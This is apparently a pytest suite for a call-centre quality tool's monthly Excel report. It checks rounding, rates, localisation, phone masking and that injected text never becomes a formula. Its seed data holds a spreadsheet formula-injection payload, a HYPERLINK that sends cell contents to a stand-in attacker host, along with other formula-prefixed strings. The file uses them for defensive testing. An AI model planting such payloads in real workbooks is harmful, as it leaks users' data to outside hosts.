"""The monthly workbook read back with openpyxl and checked against the database, computed independently."""
from __future__ import annotations

import datetime as dt
import zipfile
from decimal import ROUND_HALF_UP, Decimal, localcontext

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from qa_desktop.core.db import models as m
from qa_desktop.core.reports.monthly import export_monthly
from qa_desktop.core.scoring.engine import score
from qa_desktop.core.scoring.form import FormDefinition

MALICIOUS_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORM = {
    "format": 1, "code": "STD", "name": {"zh_CN": "标准评分表", "en": "Standard"},
    "sections": [
        {"code": "OPEN", "title": {"zh_CN": "开场", "en": "Opening"}, "weight": 40, "items": [
            {"code": "greet", "type": "yes_no", "text": {"zh_CN": "使用标准问候语", "en": "Standard greeting"},
             "points": 2, "critical": True},
            {"code": "wait", "type": "yes_no_na", "text": {"zh_CN": "等待超过10秒致歉", "en": "Apologise for waits"},
             "points": 1},
        ]},
        {"code": "SOLVE", "title": {"zh_CN": "解决问题", "en": "Solving"}, "weight": 60, "items": [
            {"code": "skill", "type": "scale", "text": {"zh_CN": "业务熟练", "en": "Knowledge"},
             "options": [{"value": v} for v in range(0, 5)]},
            {"code": "rude", "type": "yes_no", "text": {"zh_CN": "无不礼貌用语", "en": "No rude speech"}, "points": 1,
             "fatal": {"answers": ["no"], "effect": "zero_total"}},
        ]},
    ],
}

# (agent index, evaluator index, submitted UTC, answers, stored score override) — overrides make
# averages land on half cents, where float arithmetic and banker's rounding go wrong.
OCT = dt.datetime(2026, 10, 1)


def _answers(greet="yes", wait="yes", skill=4, rude="yes"):
    return {"greet": greet, "wait": wait, "skill": skill, "rude": rude}


def seed(db) -> dict:
    definition = FormDefinition.from_dict(FORM)
    ids: dict = {}

    def work(s):
        team_a, team_b = m.Team(name="一组 Team A"), m.Team(name="二组 Team B")
        s.add_all([team_a, team_b])
        s.flush()
        lead = m.User(login="tester", display_name="组长 Lead", role=m.Role.QA_LEAD)
        qa1 = m.User(login="qa1", display_name="质检员甲", role=m.Role.EVALUATOR)
        qa2 = m.User(login="qa2", display_name="+qa2 formula", role=m.Role.EVALUATOR)
        s.add_all([lead, qa1, qa2])
        agents = [m.Agent(agent_code="A001", name="王小明", team_id=team_a.id),
                  m.Agent(agent_code="A002", name=MALICIOUS_NAME, team_id=team_a.id),
                  m.Agent(agent_code="B001", name="李华", team_id=team_b.id)]
        s.add_all(agents)
        form = m.ScoringForm(code="STD", name="标准评分表")
        s.add(form)
        s.flush()
        version = m.FormVersion(form_id=form.id, version_no=1, definition=FORM, locked=True)
        s.add(version)
        s.flush()
        n = 0

        def evaluation(agent, evaluator, submitted, answers, *, override=None, kind=m.EvaluationKind.REGULAR,
                       status=m.EvaluationStatus.SUBMITTED, seconds=300, summary=None):
            nonlocal n
            n += 1
            call = m.Call(external_id=f"CALL{n}", recording_path=f"/r/{n}.wav", agent_id=agent.id,
                          started_at=submitted - dt.timedelta(hours=2), call_type="投诉",
                          customer_number_masked="139****0001")
            s.add(call)
            s.flush()
            result = score(definition, answers)
            e = m.Evaluation(call_id=call.id, form_version_id=version.id, evaluator_id=evaluator.id, kind=kind,
                             status=status, answers=answers, comments={}, summary=summary,
                             score=override if override is not None else result.total,
                             grade=result.grade("zh_CN"), critical_failed=result.critical_failed,
                             fatal_failed=result.fatal_failed, breakdown=result.to_dict(),
                             submitted_at=submitted if status == m.EvaluationStatus.SUBMITTED else None,
                             active_seconds=seconds)
            s.add(e)
            s.flush()
            return e

        a1, a2, b1 = agents
        # agent A001: 80.00 and 80.01 → exact mean 80.005 → 80.01 (half up; floats give 80.00)
        e1 = evaluation(a1, qa1, OCT + dt.timedelta(days=1, hours=3), _answers(skill=3), override=Decimal("80.00"))
        evaluation(a1, qa1, OCT + dt.timedelta(days=1, hours=5), _answers(skill=3), override=Decimal("80.01"))
        # agent A002 (malicious name): one perfect, one fatal
        evaluation(a2, qa2, OCT + dt.timedelta(days=2, hours=1), _answers())
        evaluation(a2, qa2, OCT + dt.timedelta(days=3, hours=1), _answers(rude="no", wait="na", skill=2),
                   summary="=1+1 客户 13912345678 要求回电")
        # agent B001: failing greeting twice, one in each evaluator
        evaluation(b1, qa1, OCT + dt.timedelta(days=4), _answers(greet="no", skill=1), seconds=0)
        evaluation(b1, qa2, OCT + dt.timedelta(days=4, hours=2), _answers(greet="no", wait="no", skill=4))
        # not counted: draft, calibration, returned, September (previous month), November
        evaluation(a1, qa1, OCT + dt.timedelta(days=5), _answers(), status=m.EvaluationStatus.DRAFT)
        evaluation(a1, qa1, OCT + dt.timedelta(days=5), _answers(skill=0), kind=m.EvaluationKind.CALIBRATION)
        evaluation(a1, qa1, OCT + dt.timedelta(days=5), _answers(skill=0), status=m.EvaluationStatus.RETURNED)
        evaluation(a1, qa1, dt.datetime(2026, 9, 15), _answers(skill=2))
        evaluation(b1, qa1, dt.datetime(2026, 9, 16), _answers(skill=4))
        evaluation(a1, qa1, dt.datetime(2026, 11, 1, 0, 30), _answers(skill=0))
        s.add(m.Annotation(call_id=e1.call_id, evaluation_id=e1.id, author_id=qa1.id, position_ms=65_000,
                           item_code="skill", text="@SUM(A1) 客户号码 13812345678 说明不清"))
        s.add(m.Flag(call_id=e1.call_id, evaluation_id=e1.id, kind=m.FlagKind.COMPLAINT,
                     reason="-投诉鉴定 customer 13700001111", raised_at=OCT + dt.timedelta(days=6),
                     resolution=m.FlagResolution.FOUNDED))
        coaching = m.CoachingSession(agent_id=b1.id, coach_id=lead.id, held_on=dt.date(2026, 10, 10),
                                     agreed="规范问候语", follow_up_on=dt.date(2026, 10, 20))
        coaching.links.append(m.CoachingLink(item_code="greet"))
        coaching.action_items.append(m.ActionItem(description="每天复听两通录音", owner="李华",
                                                  due_on=dt.date(2026, 10, 15)))
        s.add(coaching)
        ids.update(teams=(team_a.id, team_b.id), agents=[a.id for a in agents], version=version.id)

    db.write(work)
    return ids


def expected_evaluations(db, first: dt.datetime, end: dt.datetime, team_id=None):
    """The counted evaluations, selected here without the report code."""
    with db.read() as s:
        query = (select(m.Evaluation, m.Agent).join(m.Call, m.Call.id == m.Evaluation.call_id)
                 .join(m.Agent, m.Agent.id == m.Call.agent_id)
                 .where(m.Evaluation.kind == m.EvaluationKind.REGULAR,
                        m.Evaluation.status == m.EvaluationStatus.SUBMITTED,
                        m.Evaluation.submitted_at >= first, m.Evaluation.submitted_at < end))
        if team_id is not None:
            query = query.where(m.Agent.team_id == team_id)
        return [(e.id, e.score, e.answers, a.agent_code, e.fatal_failed, e.critical_failed)
                for e, a in s.execute(query)]


def half_up_mean(scores) -> Decimal:
    with localcontext() as ctx:
        ctx.prec = 50
        mean = sum(scores, Decimal(0)) / len(scores)
    return mean.quantize(Decimal("0.01"), ROUND_HALF_UP)


def table(ws, header_row=1):
    rows = list(ws.iter_rows(values_only=True))
    header = rows[header_row - 1]
    return header, [dict(zip(header, r)) for r in rows[header_row:]]


@pytest.fixture
def monthly(sqlite_db, tmp_path):
    ids = seed(sqlite_db)
    path = tmp_path / "oct.xlsx"
    result = export_monthly(sqlite_db, "2026-10", path, tz="UTC", today=dt.date(2026, 10, 25))
    return sqlite_db, ids, path, result


def test_sheets_in_order_and_summary_matches_the_database(monthly):
    db, ids, path, result = monthly
    wb = load_workbook(path)
    assert wb.sheetnames == ["Summary", "Agents", "Items", "Evaluations", "Flags and reviews", "Coaching", "Training",
                             "Evaluators", "Automatic checks"]
    rows = expected_evaluations(db, OCT, dt.datetime(2026, 11, 1))
    assert len(rows) == 6 == result.evaluations
    summary = {r[0].value: [c.value for c in r[1:4]] for r in wb["Summary"].iter_rows() if r[0].value}
    assert summary["Evaluations"][:2] == [6, 2]            # October, September
    assert summary["Evaluations"][2] == 4                   # change
    expected_average = half_up_mean([r[1] for r in rows])
    assert Decimal(str(summary["Average score"][0])) == expected_average
    assert summary["Fatal failures"][0] == sum(r[4] for r in rows) == 1
    assert summary["Critical failures"][0] == sum(r[5] for r in rows)
    # the grade table: four bands whose counts add up to the evaluations, as graded in the database
    lines = [[c.value for c in r] for r in wb["Summary"].iter_rows()]
    start = next(i for i, line in enumerate(lines) if line[0] == "Grade")
    grades = {line[0]: line[1] for line in lines[start + 1:start + 5]}
    assert list(grades) == ["Excellent", "Good", "Pass", "Fail"]  # English only, no Chinese mixed in
    assert sum(grades.values()) == 6
    fails = sum(1 for r in rows if r[1] < 60 or r[4])
    assert grades["Fail"] == fails
    with zipfile.ZipFile(path) as archive:  # grade, trend and Pareto charts are native Excel charts
        assert len([n for n in archive.namelist() if n.startswith("xl/charts/chart")]) == 3


def test_agent_averages_are_exact_to_the_cent_with_half_up_rounding(monthly):
    db, ids, path, _ = monthly
    header, agents = table(load_workbook(path)["Agents"])
    by_code = {a["Agent ID"]: a for a in agents}
    rows = expected_evaluations(db, OCT, dt.datetime(2026, 11, 1))
    for code in ("A001", "A002", "B001"):
        scores = [r[1] for r in rows if r[3] == code]
        assert by_code[code]["Evaluations"] == len(scores)
        assert Decimal(str(by_code[code]["Average"])) == half_up_mean(scores)
        assert Decimal(str(by_code[code]["Min"])) == min(scores)
        assert Decimal(str(by_code[code]["Max"])) == max(scores)
    # 80.005 rounds up, as a manager rounding by hand would
    assert Decimal(str(by_code["A001"]["Average"])) == Decimal("80.01")
    assert by_code["A001"]["95% CI low"] < 80.005 < by_code["A001"]["95% CI high"]
    ranks = sorted((a["Rank"], a["Average"]) for a in agents if a["Rank"])
    assert [r for r, _ in ranks] == [1, 2, 3] and ranks[0][1] >= ranks[1][1] >= ranks[2][1]
    assert by_code["B001"]["Coaching sessions"] == 1
    # trend columns: September's average for A001 is the September evaluation alone
    september = [r for r in expected_evaluations(db, dt.datetime(2026, 9, 1), OCT) if r[3] == "A001"]
    assert Decimal(str(by_code["A001"]["2026-09"])) == september[0][1]


def test_item_failure_rates_match_the_answers(monthly):
    db, ids, path, _ = monthly
    header, items = table(load_workbook(path)["Items"])
    rows = expected_evaluations(db, OCT, dt.datetime(2026, 11, 1))
    all_teams = [i for i in items if i["Team"] == "All teams"]
    # Pareto order: errors never increase down the block, cumulative share ends at 100%
    errors = [i["Errors (points lost)"] for i in all_teams]
    assert errors == sorted(errors, reverse=True)
    assert all_teams[-1]["Cumulative share of errors"] == pytest.approx(1.0) or errors[-1] == 0
    greet = next(i for i in all_teams if i["Item"] == "Standard greeting")
    failed = sum(1 for r in rows if r[2]["greet"] == "no")
    assert greet["Failed"] == failed == 2 and greet["Applicable"] == 6
    assert greet["Error rate"] == pytest.approx(failed / 6)
    wait = next(i for i in all_teams if i["Item"] == "Apologise for waits")
    assert wait["N/A"] == 1 and wait["Applicable"] == 5
    skill = next(i for i in all_teams if i["Item"] == "Knowledge")
    assert skill["Partial"] == sum(1 for r in rows if 0 < r[2]["skill"] < 4)
    assert skill["Failed"] == sum(1 for r in rows if r[2]["skill"] == 0)
    team_b = [i for i in items if i["Team"] == "二组 Team B"]
    assert next(i for i in team_b if i["Item"] == "Standard greeting")["Error rate"] == pytest.approx(1.0)


def test_item_error_rates_agree_with_the_training_module(monthly):
    from qa_desktop.core.workflow.training import item_error_rates

    db, ids, path, _ = monthly
    header, items = table(load_workbook(path)["Items"])
    ours = {i["Item"]: (i["Errors (points lost)"], i["Applicable"]) for i in items if i["Team"] == "All teams"}
    text = {"greet": "Standard greeting", "wait": "Apologise for waits", "skill": "Knowledge", "rude": "No rude speech"}
    theirs = {text[r["item_code"]]: (r["failed"], r["evaluated"])  # the sheet names items by their text
              for r in item_error_rates(db, dt.date(2026, 10, 1), dt.date(2026, 11, 1))}
    assert ours == theirs


def test_evaluations_sheet_is_the_raw_data_with_notes_masked_and_no_formulas(monthly):
    db, ids, path, _ = monthly
    ws = load_workbook(path)["Evaluations"]
    header, rows = table(ws)
    expected = {r[0]: r for r in expected_evaluations(db, OCT, dt.datetime(2026, 11, 1))}
    assert sorted(r["Evaluation"] for r in rows) == sorted(expected)
    for row in rows:
        assert Decimal(str(row["Score"])) == expected[row["Evaluation"]][1]
        assert row["Standard greeting"] in ("yes", "no")  # items by their text, no code
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}7"
    noted = next(r for r in rows if r["Notes"])
    assert "13812345678" not in noted["Notes"] and "138****5678" in noted["Notes"]
    assert noted["Notes"].startswith("[01:05] Knowledge: @SUM(A1)")
    summary = next(r for r in rows if r["Summary"])
    assert summary["Summary"].startswith("=1+1") and "139****5678" in summary["Summary"]
    # every text cell that looks like a formula is stored as text
    for line in ws.iter_rows(min_row=2):
        for cell in line:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                assert cell.data_type == "s", cell.coordinate
    names = [r["Agent"] for r in rows]
    assert MALICIOUS_NAME in names


def test_no_formula_anywhere_in_the_file(monthly):
    """Read the sheet XML itself: no <f> element may exist (malicious name, note, evaluator, flag reason)."""
    _db, _ids, path, _ = monthly
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 9
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name
    wb = load_workbook(path)
    flags = table(wb["Flags and reviews"])[1]
    assert flags[0]["Detail"].startswith("-投诉鉴定") and "137****1111" in flags[0]["Detail"]
    assert wb["Flags and reviews"]["I2"].data_type == "s"
    evaluators = table(wb["Evaluators"])[1]
    assert any(r["Evaluator"] == "+qa2 formula" for r in evaluators)


def test_coaching_and_evaluators_sheets(monthly):
    db, ids, path, _ = monthly
    wb = load_workbook(path)
    coaching = table(wb["Coaching"])[1]
    assert len(coaching) == 1
    row = coaching[0]
    assert row["Agent ID"] == "B001" and row["Items discussed"] == "Standard greeting" and row["Open actions"] == 1
    assert row["Follow-up status"] == "overdue"   # pending, follow-up 20 Oct, report made on the 25th
    # 30 days before the session on 10 Oct: 16 Sep (100, passed) and two on 5 Oct (38.10 fail, 71.43 pass);
    # nothing after it. The greeting, the coached item, passed once in those three calls.
    assert row["Evaluations before"] == 3 and row["Evaluations passed, 30 days before"] == pytest.approx(2 / 3)
    assert row["Evaluations after"] == 0 and row["Evaluations passed, 30 days after"] is None
    assert row["Coached items pass rate, 30 days before"] == pytest.approx(1 / 3)
    assert row["Coached items pass rate, 30 days after"] is None
    evaluators = {r["Evaluator"]: r for r in table(wb["Evaluators"])[1]}
    qa1 = evaluators["质检员甲"]
    assert qa1["Evaluations"] == 3 and qa1["Days with evaluations"] == 2
    assert qa1["Evaluations per day"] == pytest.approx(1.5)
    # the untimed evaluation (0 s) is left out of the average time
    assert Decimal(str(qa1["Average minutes per evaluation"])) == Decimal("5.00")
    assert qa1["10-02"] == 2 and qa1["10-05"] == 1


def test_team_filter_language_and_time_zone(sqlite_db, tmp_path):
    seed(sqlite_db)
    path = tmp_path / "team.xlsx"
    result = export_monthly(sqlite_db, "2026-10", path, team="二组 Team B", lang="zh_CN", tz="UTC")
    assert result.evaluations == 2
    wb = load_workbook(path)
    assert wb.sheetnames == ["概览", "座席", "评分项", "评估明细", "标记与复核", "辅导", "培训", "质检员",
                             "自动质检一致率"]
    header, agents = table(wb["座席"])
    assert [a["工号"] for a in agents] == ["B001"]
    # Shanghai time: the evaluation at 00:30 UTC on 1 November is 08:30 local, still November;
    # the whole-centre October in Shanghai also starts 8 hours earlier than in UTC.
    shanghai = export_monthly(sqlite_db, "2026-11", tmp_path / "nov.xlsx", tz="Asia/Shanghai")
    assert shanghai.evaluations == 1
    with pytest.raises(Exception) as error:
        export_monthly(sqlite_db, "2026-10", tmp_path / "x.xlsx", team="no such team")
    assert "no such team" in str(error.value) and not (tmp_path / "x.xlsx").exists()


def test_cli_writes_the_workbook_and_refuses_a_bad_month(sqlite_db, tmp_path, capsys):
    from qa_desktop.cli import main

    seed(sqlite_db)
    out = tmp_path / "cli.xlsx"
    db_path = str(sqlite_db.path)
    sqlite_db.dispose()
    assert main(["export", "monthly", "--db", db_path, "--month", "2026-10", "--tz", "UTC", "-o", str(out),
                 "--lang", "zh_TW", "--json"]) == 0
    assert '"evaluations": 6' in capsys.readouterr().out
    assert load_workbook(out).sheetnames[0] == "概覽"
    assert main(["export", "monthly", "--db", db_path, "--month", "2026-13", "-o", str(out)]) == 2
    assert "not a month" in capsys.readouterr().err


def test_same_figures_on_sqlite_and_postgresql(any_db, tmp_path):
    """Sums of cents in SQL (the trend) and Decimal sums in Python agree on both engines."""
    seed(any_db)
    path = tmp_path / "any.xlsx"
    result = export_monthly(any_db, "2026-10", path, tz="UTC", today=dt.date(2026, 10, 25))
    assert result.evaluations == 6
    header, agents = table(load_workbook(path)["Agents"])
    rows = expected_evaluations(any_db, OCT, dt.datetime(2026, 11, 1))
    for agent in agents:
        scores = [r[1] for r in rows if r[3] == agent["Agent ID"]]
        assert Decimal(str(agent["Average"])) == half_up_mean(scores) == Decimal(str(agent["2026-10"]))


def test_chunked_streaming_gives_the_same_workbook(sqlite_db, tmp_path):
    """Pages of one evaluation, with every October evaluation submitted in the same second (ties)."""
    from sqlalchemy import update

    seed(sqlite_db)
    sqlite_db.write(lambda s: s.execute(
        update(m.Evaluation).where(m.Evaluation.submitted_at >= OCT, m.Evaluation.submitted_at < dt.datetime(2026, 11,
                                                                                                             1))
        .values(submitted_at=dt.datetime(2026, 10, 9, 12))))
    whole = export_monthly(sqlite_db, "2026-10", tmp_path / "whole.xlsx", tz="UTC", today=dt.date(2026, 10, 25))
    paged = export_monthly(sqlite_db, "2026-10", tmp_path / "paged.xlsx", tz="UTC", today=dt.date(2026, 10, 25),
                           chunk=1)
    assert whole.evaluations == paged.evaluations == 6
    a, b = load_workbook(tmp_path / "whole.xlsx"), load_workbook(tmp_path / "paged.xlsx")
    for name in a.sheetnames:
        rows_a = [r for r in a[name].iter_rows(values_only=True) if r[0] != "Generated"]
        rows_b = [r for r in b[name].iter_rows(values_only=True) if r[0] != "Generated"]
        assert rows_a == rows_b, name


def test_grades_agree_with_the_scoring_engine_breakdown(monthly):
    """The sheet's grade (from the stored label) is the engine's grade_code for every evaluation."""
    from qa_desktop.core.reports.labels import grade_label

    db, ids, path, _ = monthly
    header, rows = table(load_workbook(path)["Evaluations"])
    with db.read() as s:
        codes = {e.id: e.breakdown["grade_code"] for e in s.scalars(select(m.Evaluation))}
    for row in rows:
        assert row["Grade"] == grade_label(codes[row["Evaluation"]], "en")
    assert {row["Grade"] for row in rows} >= {"Fail", "Excellent"}


def test_the_chinese_workbook_has_no_english_and_no_item_codes(sqlite_db, tmp_path):
    """Every header, item, grade and status of the 简体中文 workbook is Chinese; only the data's own
    names (agents, teams, evaluators, call ids) may be Latin."""
    from ui_text_walk import latin_words

    seed(sqlite_db)
    path = tmp_path / "zh.xlsx"
    export_monthly(sqlite_db, "2026-10", path, lang="zh_CN", tz="UTC", today=dt.date(2026, 10, 25))
    wb = load_workbook(path)
    names = {"Team", "formula", "qa2", "SUM"}  # the seed's own names: "二组 Team B", "+qa2 formula", a note
    english = []
    for ws in wb.worksheets:
        header = [c.value for c in next(ws.iter_rows(max_row=1))]
        english += [f"{ws.title} header {v!r}" for v in header if isinstance(v, str) and latin_words(v, names)]
        for line in ws.iter_rows(values_only=True):
            for value in line:
                if isinstance(value, str) and value in {"greet", "wait", "skill", "rude", "STD", "excellent", "good",
                                                        "pass", "fail", "harsh", "lenient", "expert", "overdue"}:
                    english.append(f"{ws.title}: code {value!r}")
    items = table(wb["评分项"])[1]
    assert {i["评分项"] for i in items} >= {"使用标准问候语", "业务熟练"}
    assert english == []


def test_every_sheet_states_its_size_for_read_only_readers(monthly):
    path = monthly[2]
    full = load_workbook(path)
    streamed = load_workbook(path, read_only=True)  # trusts <dimension>, as BI tools do
    for ws in full.worksheets:
        fast = streamed[ws.title]
        assert (fast.max_row, fast.max_column) == (ws.max_row, ws.max_column), ws.title
        assert fast.calculate_dimension() == ws.calculate_dimension()
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all(b"<dimension ref=" in archive.read(n) for n in sheets)
    streamed.close()
